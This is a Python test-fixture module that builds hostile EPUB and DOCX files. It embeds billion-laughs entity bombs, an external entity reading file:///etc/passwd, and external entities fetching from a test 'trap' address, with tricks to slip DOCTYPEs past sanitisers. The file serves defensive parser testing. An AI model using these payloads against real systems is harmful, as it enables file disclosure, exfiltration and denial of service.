"""Document types that declare what explodes, or what is elsewhere."""

from collections.abc import Callable, Iterator, Mapping

from tests.bot.parsers import builders
from tests.journeys.hostile.archives import WORD, opf
from tests.journeys.hostile.file import WORDS, HostileFile

PASSWD = "file:///etc/passwd"


def documents_of_entities(trap: str) -> Iterator[HostileFile]:
    """Each document type, each way to bring it in, each place to put it, none of them left out."""
    tricks = list(_disguises().items())
    for turn, (kind, subset) in enumerate(_subsets(trap).items()):
        for place, (where, build) in enumerate(_places().items()):
            trick, hide = tricks[(turn + place) % len(tricks)]
            yield HostileFile(f"{kind} in {where}, {trick}", f"{turn}{place}.{where[-4:]}", build(hide(subset)))


def _places() -> Mapping[str, Callable[[str], bytes]]:
    def package(doctype: str) -> bytes:
        rest = opf("a").partition("?>")[2].replace("A Test", "&lol9;")
        return builders.epub({"a.xhtml": f"<p>{WORDS}</p>"}, parts={"OPS/book.opf": doctype + rest})

    def contents(doctype: str) -> bytes:
        point = '<navPoint><navLabel><text>&lol9;</text></navLabel><content src="a.xhtml"/></navPoint>'
        ncx = f"{doctype}<ncx><navMap>{point}</navMap></ncx>"
        return builders.epub({"a.xhtml": f"<p>{WORDS}</p>"}, ncx=" ", parts={"OPS/toc.ncx": ncx})

    def document(doctype: str) -> bytes:
        body = builders.docx_paragraph(f"&lol9; {WORDS}")
        return builders.archive(
            {"word/document.xml": f"{doctype}<w:document {WORD}><w:body>{body}</w:body></w:document>"}
        )

    return {"the package of an epub": package, "the contents of an epub": contents, "the text of a docx": document}


def _subsets(trap: str) -> Mapping[str, str]:
    """Internal subsets of document types, all of which declare lol9."""
    laughs = '<!ENTITY lol0 "lolololololololol">' + "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
    )
    return {
        "a billion laughs": laughs,
        "a file of the machine": f'<!ENTITY lol9 SYSTEM "{PASSWD}">',
        "an address of the network": f'<!ENTITY lol9 SYSTEM "{trap}/entity"><!ENTITY % p SYSTEM "{trap}/dtd"> %p;',
    }


def _disguises() -> Mapping[str, Callable[[str], str]]:
    """Ways to bring a document type past somebody who takes document types away."""
    return {
        "open": lambda subset: f"<!DOCTYPE r [{subset}]>",
        "one in another": lambda subset: f"<!DOC<!DOCTYPE x>TYPE r [{subset}]>",
        "under other names": lambda subset: f"&LT;!DOCTYPE r [{subset.replace('<', '&LT;')}]>",
    }
